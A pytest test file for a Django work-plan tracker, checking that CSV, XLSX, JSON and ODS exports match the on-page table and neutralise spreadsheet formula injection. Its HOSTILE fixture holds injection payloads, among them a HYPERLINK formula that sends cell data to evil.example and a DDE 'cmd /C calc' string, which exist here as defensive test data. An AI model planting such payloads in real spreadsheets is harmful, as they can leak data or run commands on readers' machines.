"""Exports hold exactly the table as shown: each format read back with a real reader."""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import AnonymousUser
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from odf import opendocument
from odf import table as odf_table
from odf import text as odf_text
from openpyxl.utils import get_column_letter

from workplans.management.commands.generate_synthetic import generate
from workplans.models import PriorityArea, Project, WorkPlan
from workplans.progress_rows import progress_rows
from workplans.selectors import listed_projects, projects_led_by
from workplans.tables.exports import _getter, columns, neutralise
from workplans.tables.projects import (
    CountryProjectTable,
    ProgressTable,
    ProjectListTable,
    ProjectTable,
)
from workplans.tables.writers import ODS_MAX_ROWS

from .conftest import make_body, make_meeting, make_plan, make_report

S = Project.Status
CHANGED = timezone.make_aware(dt.datetime(2024, 3, 5, 10, 30))

# Titles a spreadsheet would run as formulas if written as they are.
HOSTILE = {
    "P002": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "P003": "+cmd|' /C calc'!A0",
    "P004": "-2+3",
    "P005": "@SUM(1+1)",
    "P006": "\tTabbed",
}


@pytest.fixture
def plan(db, viet_nam, japan):
    body = make_body("accsm", name="ASEAN Cooperation on Civil Service Matters")
    plan = make_plan(
        body,
        "accsm-work-plan-2021-2025",
        statuses=[
            S.COMPLETED,
            S.PLANNED,
            S.ONGOING,
            S.PLANNED,
            S.COMPLETED,
            S.PLANNED,
            S.PLANNED,
        ],
    )
    plan.title = "ACCSM Work Plan 2021–2025"
    plan.save()
    area = PriorityArea.objects.create(plan=plan, number=3, title="Talent")
    for i, project in enumerate(plan.projects.order_by("code")):
        project.title = HOSTILE.get(project.code, f"Việt Nam seminar {i}")
        project.year = 2022 + i % 2
        project.priority_area = area if i % 2 else None
        project.status_changed_at = CHANGED if i < 3 else None
        project.save()
        project.lead_countries.set([viet_nam, japan] if i % 3 == 0 else [viet_nam])
    return plan


FILTERED = {"status": ["planned", "completed"], "sort": "-code"}


def page(client, plan):
    """The table as the page shows it (every row on one page) and its values."""
    url = reverse("workplans:plan_projects", args=[plan.slug])
    response = client.get(url, {**FILTERED, "per_page": 200})
    values = list(response.context["table"].as_values())
    return values[0], values[1:]


def export(client, plan, fmt: str, query=None):
    url = reverse("workplans:plan_projects", args=[plan.slug])
    response = client.get(url, {**(query or FILTERED), "_export": fmt})
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def plain(value):
    """The table's value as a spreadsheet holds it: neutralised text, dates and numbers as is."""
    return neutralise(value) if isinstance(value, str) else value


def test_the_filtered_table_is_what_the_tests_expect(client, plan):
    headers, rows = page(client, plan)
    assert headers == [
        "Code",
        "Title",
        "Lead countries",
        "Area",
        "Planned year",
        "Status",
        "Last update",
    ]
    assert [row[0] for row in rows] == ["P007", "P006", "P005", "P004", "P002", "P001"]
    assert rows[-1] == [
        "P001",
        "Việt Nam seminar 0",
        "JP; VN",
        None,
        2022,
        "Completed",
        dt.date(2024, 3, 5),
    ]


def test_xlsx_holds_the_filtered_sorted_table_with_real_dates(client, plan):
    headers, rows = page(client, plan)
    response, content = export(client, plan, "xlsx")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="accsm-work-plan-2021-2025-projects-{today}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "Projects"
    read = [list(r) for r in sheet.iter_rows(values_only=True)]
    title = read[0][0]
    assert "Projects and activities — ACCSM Work Plan 2021–2025" in title
    assert "Status: Planned, Completed" in title and "exported" in title
    assert read[1] == headers
    data = [[None if v is None else v for v in row] for row in read[2:]]
    expected = rows  # typed cells: the exact values, formula-like titles included
    # openpyxl reads dates back as datetimes at midnight.
    for row in data:
        if isinstance(row[6], dt.datetime):
            row[6] = row[6].date()
    assert data == expected
    assert sheet.cell(row=8, column=7).is_date


def test_csv_holds_the_filtered_sorted_table(client, plan):
    headers, rows = page(client, plan)
    response, content = export(client, plan, "csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith(f'-projects-{timezone.localdate()}.csv"')
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert read[0] == headers
    expected = [
        [
            "" if v is None else v.isoformat() if isinstance(v, dt.date) else str(plain(v))
            for v in row
        ]
        for row in rows
    ]
    assert read[1:] == expected


def test_json_holds_the_filtered_sorted_table(client, plan):
    headers, rows = page(client, plan)
    response, content = export(client, plan, "json")
    assert response["Content-Type"] == "application/json"
    read = json.loads(content)
    assert len(read) == len(rows) == 6
    assert [list(item) for item in read] == [headers] * 6
    expected = [
        {
            h: v.isoformat() if isinstance(v, dt.date) else v
            for h, v in zip(headers, row, strict=True)
        }
        for row in rows
    ]
    assert read == expected  # JSON is data, not a spreadsheet: titles are left as they are


def test_ods_holds_the_filtered_sorted_table(client, plan):
    headers, rows = page(client, plan)
    response, content = export(client, plan, "ods")
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    # tablib reads ODS with odfpy; the first line is the title row.
    book = tablib.Dataset().load(io.BytesIO(content), format="ods", skip_lines=1)
    assert list(book.headers) == headers
    expected = [
        ["" if v is None else float(v) if isinstance(v, int) else v for v in row] for row in rows
    ]
    assert [list(r) for r in book] == expected
    title = _ods_cells(content)[0][0]
    assert title.startswith("Projects and activities — ACCSM Work Plan 2021–2025")


def _ods_cells(content: bytes) -> list[list[str]]:
    document = opendocument.load(io.BytesIO(content))
    rows = []
    for row in document.spreadsheet.getElementsByType(odf_table.TableRow):
        cells = []
        for cell in row.getElementsByType(odf_table.TableCell):
            cells.append("".join(str(p) for p in cell.getElementsByType(odf_text.P)))
        rows.append(cells)
    return rows


def test_formula_injection_is_neutralised_in_csv_xlsx_and_ods_keep_the_exact_title(client, plan):
    query = {"sort": "code"}
    _, csv_content = export(client, plan, "csv", query)
    read = list(csv.reader(io.StringIO(csv_content.decode("utf-8-sig"))))
    titles = {row[0]: row[1] for row in read[1:]}
    for code, title in HOSTILE.items():
        assert titles[code] == "'" + title

    _, xlsx_content = export(client, plan, "xlsx", query)
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_content))
    cells = {row[0].value: row[1] for row in workbook.worksheets[0].iter_rows(min_row=3)}
    for code, title in HOSTILE.items():
        assert cells[code].data_type == "s"  # text, never "f" (formula)
        assert cells[code].value == title  # exactly the tracker's title
        assert cells[code].quotePrefix  # and still text if someone edits the cell
    # No formula anywhere in the file, in any cell.
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx_content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml

    _, ods_content = export(client, plan, "ods", query)
    ods = {row[0]: row[1] for row in _ods_cells(ods_content)[2:]}
    for code, title in HOSTILE.items():
        assert ods[code] == title
    assert b"table:formula" not in zipfile.ZipFile(io.BytesIO(ods_content)).read("content.xml")


def test_xlsx_columns_are_as_wide_as_their_content_within_bounds(client, plan):
    _, xlsx_content = export(client, plan, "xlsx", {"sort": "code"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_content)).worksheets[0]
    headers = [c.value for c in sheet[2]]
    widths = {
        h: sheet.column_dimensions[get_column_letter(i)].width for i, h in enumerate(headers, 1)
    }
    longest_title = max(len(c.value or "") for c in list(sheet.columns)[headers.index("Title")][2:])
    assert widths["Title"] == min(longest_title + 2, 60)
    assert widths["Code"] == max(
        len("Code") + 2, 8, *(len(c.value) + 2 for c in list(sheet.columns)[0][2:])
    )
    assert all(8 <= width <= 60 for width in widths.values())


def test_progress_export_has_percentages_as_numbers_with_a_percent_format(client, db):
    body = make_body("accsm")
    plan = make_plan(body, "accsm-work-plan-2021-2025")
    make_report(plan, make_meeting(body), completed=7, ongoing=5, planned=19)
    response = client.get(reverse("workplans:progress_table"), {"_export": "xlsx"})
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    headers = [c.value for c in sheet[2]]
    row = {h: c for h, c in zip(headers, sheet[3], strict=True)}
    assert row["Total"].value == 31
    assert row["Completed (%)"].value == pytest.approx(0.226)
    assert row["Completed (%)"].number_format == "0.0%"
    assert row["Planned (%)"].value == pytest.approx(0.613)
    # Text, as precise as the source: a report is dated by its meeting's day or days.
    assert row["Figures dated"].value == "2 August 2022"
    assert "Reported at SOM, ACCSM 21" in row["Source of the figures"].value

    csv_text = b"".join(
        client.get(reverse("workplans:progress_table"), {"_export": "csv"}).streaming_content
    ).decode("utf-8-sig")
    read = list(csv.DictReader(io.StringIO(csv_text)))
    assert read[0]["Completed (%)"] == "22.6" and read[0]["Ongoing or annual (%)"] == "16.1"

    data = json.loads(
        b"".join(
            client.get(reverse("workplans:progress_table"), {"_export": "json"}).streaming_content
        )
    )
    assert data[0]["Planned (%)"] == 61.3 and data[0]["Figures dated"] == "2 August 2022"

    ods = client.get(reverse("workplans:progress_table"), {"_export": "ods"}).content
    document = opendocument.load(io.BytesIO(ods))
    percent = [
        c
        for c in document.spreadsheet.getElementsByType(odf_table.TableCell)
        if c.getAttribute("valuetype") == "percentage"
    ]
    assert Decimal(percent[0].getAttribute("value")) == Decimal("0.226")


def test_unknown_format_is_404_and_invalid_filters_do_not_export(client, plan):
    url = reverse("workplans:plan_projects", args=[plan.slug])
    assert client.get(url, {"_export": "pdf"}).status_code == 404
    response = client.get(url, {"_export": "csv", "year": "soon"})
    assert response.status_code == 302
    assert "_export" not in response["Location"]


def test_ods_refuses_more_rows_than_it_can_hold(client, plan, monkeypatch):
    monkeypatch.setattr("workplans.tables.writers.ODS_MAX_ROWS", 3)
    response = client.get(
        reverse("workplans:plan_projects", args=[plan.slug]), {"_export": "ods"}, follow=True
    )
    assert "too many for an ODS file" in response.content.decode()
    assert ODS_MAX_ROWS > 3


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json", "ods"])
def test_export_query_count_does_not_grow_with_the_rows(client, plan, fmt):
    url = reverse("workplans:project_list")

    def measure() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url, {"_export": fmt, "sort": "-lead_countries"})
            b"".join(response.streaming_content) if response.streaming else response.content
        return len(captured)

    small = measure()
    generate(plans=2, projects_per_plan=150)
    assert measure() == small


def test_a_large_export_streams_chunk_by_chunk(client, db, monkeypatch):
    """Rows are fetched a chunk at a time and written as they come, not built up first.

    100,000 rows, their timings and memory are the benchmark's (make bench), not the suite's.
    """
    monkeypatch.setattr("workplans.tables.exports.CHUNK_SIZE", 500)
    generate(plans=3, projects_per_plan=1_000)
    response = client.get(
        reverse("workplans:project_list"), {"_export": "csv", "body": "synthetic"}
    )
    assert isinstance(response, StreamingHttpResponse)
    chunks = [chunk.count(b"\n") for chunk in response.streaming_content]
    assert sum(chunks) == 3_001  # the headers and every project
    assert len(chunks) > 3 and max(chunks) <= 500


def test_the_export_getter_gives_what_django_tables2_gives_for_every_column(plan, viet_nam):
    """exports._getter sets up once per column what BoundRow.get_cell_value does per cell."""
    projects = listed_projects()
    tables = [
        ProjectListTable(projects),
        ProjectTable(projects),
        CountryProjectTable(projects_led_by(viet_nam), user=AnonymousUser()),
        ProgressTable(progress_rows(WorkPlan.objects.all())),
    ]
    compared = 0
    for table in tables:
        for column in columns(table):
            get = _getter(table, column.name)
            for row in table.rows:
                assert get(row.record) == row.get_cell_value(column.name), (
                    type(table).__name__,
                    column.name,
                )
                compared += 1
    assert compared > 100
